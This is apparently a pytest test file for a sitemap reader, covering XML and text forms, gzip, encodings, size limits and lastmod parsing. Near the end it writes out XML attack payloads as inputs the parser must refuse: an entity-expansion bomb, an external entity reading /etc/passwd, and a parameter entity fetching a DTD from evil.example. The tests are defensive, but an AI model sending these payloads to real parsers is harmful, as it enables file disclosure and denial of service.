"""Sitemaps: every form of them, and none that is not safe to read."""

import gzip
from datetime import UTC, datetime

import pytest

from datalake.sources.web import listing, sitemaps
from datalake.sources.web.listing import Entry, ListingError, read_time
from datalake.sources.web.sitemaps import read_sitemap

URL = "https://example.com/maps/map.xml"
SPACE = 'xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"'


def urlset(*urls: str, attributes: str = SPACE, inner: str = "") -> bytes:
    entries = "".join(f"<url><loc>{url}</loc>{inner}</url>" for url in urls)
    return f'<?xml version="1.0" encoding="UTF-8"?><urlset {attributes}>{entries}</urlset>'.encode()


def pages(payload: bytes) -> list[str]:
    return [entry.url for entry in read_sitemap(payload, URL).pages]


def test_the_example_of_the_protocol_is_read() -> None:
    found = read_sitemap(
        b"""<?xml version="1.0" encoding="UTF-8"?>
<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">
   <url>
      <loc>http://www.example.com/</loc>
      <lastmod>2005-01-01</lastmod>
      <changefreq>monthly</changefreq>
      <priority>0.8</priority>
   </url>
   <url>
      <loc>http://www.example.com/catalog?item=12&amp;desc=vacation_hawaii</loc>
      <lastmod>2004-12-23T18:00:15+00:00</lastmod>
   </url>
</urlset>""",
        URL,
    )
    assert found.pages == [
        Entry("http://www.example.com/", datetime(2005, 1, 2, 12, tzinfo=UTC)),
        Entry(
            "http://www.example.com/catalog?item=12&desc=vacation_hawaii",
            datetime(2004, 12, 23, 18, 0, 15, tzinfo=UTC),
        ),
    ]
    assert found.problem is None and not found.lists


def test_an_index_names_sitemaps_and_no_pages() -> None:
    found = read_sitemap(
        f"<sitemapindex {SPACE}><sitemap><loc>a.xml.gz</loc><lastmod>2026-01-02T03:04:05Z</lastmod>"
        "</sitemap><sitemap><loc>http://other.example/b.xml</loc></sitemap></sitemapindex>".encode(),
        URL,
    )
    assert [entry.url for entry in found.lists] == [
        "https://example.com/maps/a.xml.gz",
        "http://other.example/b.xml",
    ]
    assert found.is_index and not found.pages


@pytest.mark.parametrize(
    "payload",
    [
        gzip.compress(urlset("https://example.com/a")),
        b"\xef\xbb\xbf" + urlset("https://example.com/a"),
        b"\n  " + urlset("https://example.com/a"),
        urlset("https://example.com/a").decode().replace("UTF-8", "UTF-16").encode("utf-16"),
        urlset("https://example.com/a", attributes=""),
        urlset("<![CDATA[ https://example.com/a ]]>"),
        urlset("https://example.com/a").replace(b"<", b"<s:").replace(b"<s:/", b"</s:")
        .replace(b"<s:?", b"<?").replace(b"xmlns=", b"xmlns:s="),
        b"https://example.com/a\n",
        b"\xef\xbb\xbfhttps://example.com/a\r\n\r\n",
        gzip.compress(b"https://example.com/a"),
    ],
    ids=["gzip", "mark", "blanks", "utf16", "bare", "cdata", "prefix", "text", "lines", "text.gz"],
)  # fmt: skip
def test_every_spelling_gives_the_same_page(payload: bytes) -> None:
    assert pages(payload) == ["https://example.com/a"]


def test_images_and_other_languages_are_no_pages_of_a_sitemap() -> None:
    more = (
        "<image:image><image:loc>https://example.com/i.png</image:loc></image:image>"
        '<xhtml:link rel="alternate" hreflang="de" href="https://example.com/de"/>'
    )
    assert pages(urlset("https://example.com/a", inner=more)) == ["https://example.com/a"]


def test_addresses_that_are_none_are_counted() -> None:
    found = read_sitemap(urlset("https://example.com/a", "mailto:a@b.example", "http://[x"), URL)
    assert len(found.pages) == 1 and found.num_unreadable == 2


def test_a_document_that_breaks_off_counts_up_to_there() -> None:
    whole = urlset(*(f"https://example.com/{n}" for n in range(100)))
    found = read_sitemap(whole[: len(whole) // 2], URL)
    assert 40 < len(found.pages) < 60
    assert found.problem is not None and found.problem.startswith("not well-formed: ")


def test_no_more_addresses_are_taken_than_the_protocol_allows(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(listing, "MAX_PAGES", 3)
    found = read_sitemap(urlset(*(f"https://example.com/{n}" for n in range(5))), URL)
    assert len(found.pages) == 3 and found.num_left_out == 2


def test_no_more_elements_are_read_than_a_sitemap_can_need(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(listing, "_MAX_ELEMENTS", 7)
    found = read_sitemap(urlset(*(f"https://example.com/{n}" for n in range(9))), URL)
    assert len(found.pages) == 3 and found.problem == "more than 7 elements"


BOMB = (
    '<!DOCTYPE lolz [<!ENTITY a "lol"><!ENTITY b "'
    + "&a;" * 10
    + '"><!ENTITY c "'
    + "&b;" * 10
    + '">]><urlset><url><loc>https://example.com/&c;</loc></url></urlset>'
).encode()
OUTSIDE = (
    b'<!DOCTYPE u [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    b"<urlset><url><loc>https://example.com/&x;</loc></url></urlset>"
)
PARAMETER = b'<!DOCTYPE u [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><urlset/>'


@pytest.mark.parametrize(
    ("payload", "message"),
    [
        (BOMB, "declares entities"),
        (OUTSIDE, "declares entities"),
        (PARAMETER, "declares entities"),
        (b"<a>" * 100_000, "no sitemap"),
        (b"<urlset>" * 100_000, "nested too deep"),
        (b"<html><body>Not found</body></html>", "no sitemap"),
        (b"<urlset", "not well-formed"),
        (b"a\n" * 100_000, "no sitemap"),
        (b"words that are no addresses: at\nhttp://[all", "no sitemap"),
        (b"\x1f\x8b\x08 no gzip at all", "damaged gzip"),
    ],
)
def test_what_is_no_sitemap_or_not_safe_is_refused(payload: bytes, message: str) -> None:
    with pytest.raises(ListingError, match=message):
        read_sitemap(payload, URL)


def test_a_small_file_that_unfolds_into_a_large_one_is_cut(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(listing, "MAX_BYTES", 10_000)
    found = read_sitemap(gzip.compress(urlset(*["https://example.com/a"] * 100_000)), URL)
    assert 100 < len(found.pages) < 300 and found.problem is not None


def test_an_address_is_never_half_of_one(monkeypatch: pytest.MonkeyPatch) -> None:
    text = b"https://example.com/one\nhttps://example.com/two\n"
    monkeypatch.setattr(listing, "MAX_BYTES", len(text) - 3)
    monkeypatch.setattr(sitemaps, "MAX_BYTES", len(text) - 3)
    found = read_sitemap(gzip.compress(text), URL)
    assert [entry.url for entry in found.pages] == ["https://example.com/one"]
    assert found.problem == "cut"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("2026-01-02", datetime(2026, 1, 3, 12, tzinfo=UTC)),
        ("2026-01-02T03:04:05", datetime(2026, 1, 2, 15, 4, 5, tzinfo=UTC)),
        (" 2026-01-02T03:04:05.5+01:00 ", datetime(2026, 1, 2, 2, 4, 5, 500_000, tzinfo=UTC)),
        ("2026-01", None),
        ("yesterday", None),
        ("9999-12-31", None),
    ],
)
def test_a_time_is_never_before_the_true_one(text: str, expected: datetime | None) -> None:
    assert read_time(text) == expected
